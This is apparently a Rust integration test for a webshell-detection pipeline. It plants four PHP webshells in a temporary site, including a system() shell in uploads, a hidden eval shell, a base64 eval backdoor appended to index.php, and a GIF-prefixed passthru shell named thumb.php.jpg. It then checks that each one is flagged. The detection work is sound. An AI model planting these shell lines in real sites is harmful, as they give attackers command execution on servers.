//! The file side joined with the requests, end to end: a generated site (a web root on disk and its
//! access log) with planted shells, `webroot-inventory` over the tree, `baseline-diff --inventory` and
//! `scripts/webshell-hunt --webroot` over both.
//!
//! File times are the real ones (ctime cannot be set), so the learning window ends just after the site
//! is written, the test waits past it, and then plants: what is planted is changed after the window
//! whatever its mtime says.

use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde_json::Value;

use crate::util::{self, json_lines, ok, stderr, stdout};

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/130.0";

/// One combined-format line.
fn line(t: i64, client: &str, method: &str, path: &str, status: u16, bytes: u64, ua: &str) -> String {
    let when = jiff::Timestamp::from_second(t).unwrap().strftime("%d/%b/%Y:%H:%M:%S +0000");
    format!("{client} - - [{when}] \"{method} {path} HTTP/1.1\" {status} {bytes} \"-\" \"{ua}\"\n")
}

fn sha256_hex(b: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(b).iter().map(|x| format!("{x:02x}")).collect()
}

fn put(root: &Path, rel: &str, body: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, body).unwrap();
}

struct Site {
    _dir: tempfile::TempDir,
    root: PathBuf,
    log: PathBuf,
    /// The end of the learning window, RFC 3339.
    learn_until: String,
}

/// A small PHP site learned for a week, then four planted shells and a routed new page.
fn site() -> Site {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("www");
    let pages = ["index.php", "login.php", "contact.php", "wp-includes/load.php"];
    for p in pages {
        put(&root, p, &format!("<?php /* {p} */ echo 'page'; ?>\n"));
    }
    for p in ["css/site.css", "js/app.js", "images/logo.png", "images/banner.jpg"] {
        put(&root, p, &format!("static {p}\n"));
    }
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
    // The window ends a second after the site was written; plant only once it has passed.
    let w = now + 1;
    std::thread::sleep(Duration::from_millis(((w + 1 - now) * 1000) as u64 + 100));
    // Planted after the window: a shell that is requested, a dormant one, code appended to a learned
    // script, a shell disguised as an image (Apache's AddHandler runs x.php.jpg).
    put(&root, "uploads/2026/12/up.php", "<?php system($_POST['c']); ?>\n");
    put(&root, "images/.cache.php", "<?php eval($_REQUEST['x']); ?>\n");
    let idx = root.join("index.php");
    let mut text = std::fs::read_to_string(&idx).unwrap();
    text.push_str("<?php if(isset($_GET['k'])){eval(base64_decode($_GET['k']));} ?>\n");
    std::fs::write(&idx, text).unwrap();
    put(&root, "images/thumb.php.jpg", "GIF89a<?php passthru($_POST['p']); ?>\n");

    let mut log = String::new();
    // The baseline: a week of visitors, every page and asset.
    for i in 0..7 * 24 {
        let t = w - 7 * 86_400 + i * 3600;
        let c = format!("198.51.100.{}", i % 200);
        for (p, n) in [("/", 900), ("/index.php", 900), ("/login.php", 400), ("/contact.php", 300)] {
            log += &line(t, &c, "GET", p, 200, n + (i as u64 % 7), BROWSER);
        }
        for p in ["/css/site.css", "/js/app.js", "/images/logo.png", "/images/banner.jpg"] {
            log += &line(t + 1, &c, "GET", p, 200, 5000, BROWSER);
        }
    }
    // After it: the shells at work, visitors as before, and a new post (routed by index.php).
    for i in 0..6 {
        let t = w + 3600 + i * 60;
        log += &line(
            t,
            "203.0.113.66",
            "POST",
            "/uploads/2026/12/up.php",
            200,
            100 + i as u64 * 37,
            "curl/8.5.0",
        );
        log += &line(
            t + 5,
            "203.0.113.66",
            "POST",
            "/images/thumb.php.jpg",
            200,
            80 + i as u64 * 11,
            "curl/8.5.0",
        );
        log += &line(t + 9, &format!("198.51.100.{i}"), "GET", "/index.php", 200, 900, BROWSER);
    }
    for i in 0..30 {
        log += &line(
            w + 7200 + i * 30,
            &format!("192.0.2.{i}"),
            "GET",
            "/2026/12/a-new-post/",
            200,
            7000,
            BROWSER,
        );
    }
    let log_path = util::write(dir.path(), "access.log", log);
    Site { learn_until: jiff::Timestamp::from_second(w).unwrap().to_string(), _dir: dir, root, log: log_path }
}

fn inventory(site: &Site, extra: &[&str]) -> String {
    let mut args = vec!["--root".to_string(), format!("{}=/", site.root.display())];
    args.extend(extra.iter().map(|s| s.to_string()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = util::run("webroot-inventory", &args, b"");
    ok(&out);
    stdout(&out)
}

fn findings_of(out: &std::process::Output) -> Vec<Value> {
    ok(out);
    json_lines(&stdout(out))
}

fn get<'a>(found: &'a [Value], template: &str) -> &'a Value {
    found.iter().find(|f| f["template"] == template).unwrap_or_else(|| panic!("no {template} in {found:#?}"))
}

fn codes(f: &Value) -> Vec<&str> {
    f["reasons"].as_array().unwrap().iter().map(|r| r["code"].as_str().unwrap()).collect()
}

/// The pipeline, with the inventory given as a file.
fn diff(site: &Site, inv: &str, dir: &Path, name: &str) -> Vec<Value> {
    let inv_path = util::write(dir, name, inv);
    let state = dir.join(format!("{name}.state"));
    let mut bd = util::cmd("baseline-diff");
    bd.args(["--from-logs", "--learn-until", &site.learn_until, "--state", state.to_str().unwrap()]);
    bd.args(["--inventory", inv_path.to_str().unwrap(), site.log.to_str().unwrap()]);
    findings_of(&util::run_cmd(&mut bd, b""))
}

#[test]
fn every_planted_shell_is_reported_with_the_file_facts_that_prove_it() {
    let site = site();
    let inv = inventory(&site, &[]);
    let tmp = tempfile::tempdir().unwrap();
    let found = diff(&site, &inv, tmp.path(), "inv.jsonl");

    // Requested, a new file: new_file, with its hash.
    let up = get(&found, "/uploads/{int}/{int}/up.php");
    assert_eq!(up["verdict"], "new");
    assert!(codes(up).contains(&"new_file"), "{up}");
    assert_eq!(up["file"]["exists"], true);
    assert_eq!(up["file"]["change"], "after_window");
    let sha = sha256_hex(b"<?php system($_POST['c']); ?>\n");
    assert_eq!(up["file"]["sha256"], sha);
    assert!(up["score"].as_i64().unwrap() >= 90, "{up}");
    // Disguised as an image: the double extension, and its new file.
    let jpg = get(&found, "/images/thumb.php.jpg");
    assert!(codes(jpg).contains(&"new_file") && codes(jpg).contains(&"double_ext"), "{jpg}");
    // Never requested: dormant, with the name's signals.
    let dormant = get(&found, "/images/.cache.php");
    assert_eq!(dormant["verdict"], "dormant");
    assert_eq!(dormant["count"], 0);
    assert!(codes(dormant).contains(&"static_dir") && codes(dormant).contains(&"hidden_name"), "{dormant}");
    assert!(dormant["score"].as_i64().unwrap() >= 50, "{dormant}");
    // Appended to a learned script: file_changed on the learned key.
    let idx = get(&found, "/index.php");
    assert_eq!(idx["verdict"], "learned");
    assert!(codes(idx).contains(&"file_changed"), "{idx}");
    // The routed page is no file, and ranks below every shell.
    let post = get(&found, "/{int}/{int}/a-new-post/");
    assert_eq!(post["file"]["exists"], false);
    assert!(codes(post).contains(&"no_file"), "{post}");
    assert!(post["score"].as_i64().unwrap() < 50, "{post}");
    // Files that did not change are not dormant.
    assert!(
        !found.iter().any(|f| f["verdict"] == "dormant" && f["template"] != "/images/.cache.php"),
        "{found:#?}"
    );

    // The join does not depend on the order of the inventory's lines.
    let mut lines: Vec<&str> = inv.lines().collect();
    lines.reverse();
    let reversed = lines.join("\n") + "\n";
    assert_ne!(reversed, inv);
    let again = diff(&site, &reversed, tmp.path(), "reversed.jsonl");
    assert_eq!(again, found);
}

#[test]
fn webshell_hunt_webroot_takes_the_inventory_itself() {
    let site = site();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("scripts/webshell-hunt");
    let html = site.root.parent().unwrap().join("review.html");
    let mut c = std::process::Command::new(script);
    c.env("WEBSHELL_HUNT_BIN", util::bin_dir());
    c.args(["--json", "--learn-until", &site.learn_until, "--webroot"]).arg(&site.root);
    c.arg("--html").arg(&html).arg(&site.log);
    let out = util::run_cmd(&mut c, b"");
    let found = findings_of(&out);
    assert_eq!(get(&found, "/images/.cache.php")["verdict"], "dormant", "{}", stderr(&out));
    assert!(codes(get(&found, "/uploads/{int}/{int}/up.php")).contains(&"new_file"));
    // The review report shows the file facts.
    let page = std::fs::read_to_string(&html).unwrap();
    assert!(
        page.contains("SHA-256") && page.contains(".cache.php"),
        "the report names the file and its hash"
    );
    assert!(
        page.contains("dormant scripts: 1") && page.contains("(dormant: never requested)"),
        "dormant rows are marked"
    );
}
